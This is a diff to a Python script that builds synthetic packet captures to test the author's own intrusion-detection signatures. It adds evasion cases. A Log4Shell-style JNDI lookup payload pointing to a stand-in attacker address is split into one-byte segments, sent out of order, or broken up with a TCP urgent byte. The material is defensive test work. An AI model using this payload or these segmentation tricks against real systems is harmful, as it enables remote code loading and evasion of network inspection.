@@ -2,7 +2,8 @@
 """captures.py OUT: writes a firing and a silent capture of each of our own signatures (rules/ips), and clean ones.
 
 OUT/fire/SID.pcap must make exactly that signature speak, OUT/silent/SID.pcap is as near to it as honest traffic comes,
-OUT/clean/NAME.pcap is ordinary traffic no signature may speak of (M-095). Conversations are written as packets, both
+OUT/clean/NAME.pcap is ordinary traffic no signature may speak of (M-095), OUT/evade/SID-HOW.pcap is the attack in pieces a receiver puts
+together and an inspection might not. Conversations are written as packets, both
 directions, with checksums; times are made up and fixed, so the same script writes the same bytes.
 Addresses: the body is 198.51.100.101, the Internet is 203.0.113.66."""
 import pathlib
@@ -37,9 +38,9 @@ class Capture:
         self.time += 0.001
         self.out.append(struct.pack("<IIII", int(self.time), int(self.time % 1 * 1e6), len(frame), len(frame)) + frame)
 
-    def tcp(self, src, sport, dst, dport, seq, ack, flags, data=b""):
+    def tcp(self, src, sport, dst, dport, seq, ack, flags, data=b"", urgent=0):
         pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, 20 + len(data))
-        seg = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 65000, 0, 0) + data
+        seg = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 65000, 0, urgent) + data
         self.ip(src, dst, 6, seg[:16] + struct.pack("!H", checksum(pseudo + seg)) + seg[18:])
 
     def udp(self, src, sport, dst, dport, data):
@@ -159,14 +160,39 @@ def clean():
     return {"browse": browse, "mail": mail, "names": names, "ping": ping}
 
 
+def in_pieces(order):
+    """order: of the pieces (sequence offset, bytes, urgent) of one request, as they are sent."""
+    c, size = Capture(), max(at + len(data) for at, data, _ in order)
+    c.tcp(WORLD, 45001, BODY, 80, 1000, 0, 2)
+    c.tcp(BODY, 80, WORLD, 45001, 9000, 1001, 0x12)
+    c.tcp(WORLD, 45001, BODY, 80, 1001, 9001, 0x10)
+    for at, data, urgent in order:
+        c.tcp(WORLD, 45001, BODY, 80, 1001 + at, 9001, 0x38 if urgent else 0x18, data, urgent)
+    c.tcp(BODY, 80, WORLD, 45001, 9001, 1001 + size, 0x18, answer())
+    c.tcp(WORLD, 45001, BODY, 80, 1001 + size, 9001 + len(answer()), 0x10)
+    return c
+
+
+def evade():
+    attack = request(target="/?q=${jndi:ldap://203.0.113.66/a}")
+    cut = attack.index(b"di:ldap")
+    head, tail = (0, attack[:cut], 0), (cut, attack[cut:], 0)
+    return {"9100001-split": in_pieces([(i, attack[i:i + 1], 0) for i in range(len(attack))]),
+            "9100001-late": in_pieces([tail, head]),
+            # the receiver takes the urgent byte out of the stream (RFC 6093 section 3)
+            "9100001-urgent": in_pieces([head, (cut, b"X", 1), (cut + 1, attack[cut:], 0)])}
+
+
 def main(out):
     for kind, i in (("fire", 0), ("silent", 1)):
         (out / kind).mkdir(parents=True, exist_ok=True)
         for sid, pair in CASES.items():
             (out / kind / ("%d.pcap" % sid)).write_bytes(pair[i].bytes())
     (out / "clean").mkdir(parents=True, exist_ok=True)
-    for name, c in clean().items():
-        (out / "clean" / (name + ".pcap")).write_bytes(c.bytes())
+    (out / "evade").mkdir(parents=True, exist_ok=True)
+    for kind, captures in (("clean", clean()), ("evade", evade())):
+        for name, c in captures.items():
+            (out / kind / (name + ".pcap")).write_bytes(c.bytes())
 
 
 if len(sys.argv) != 2:
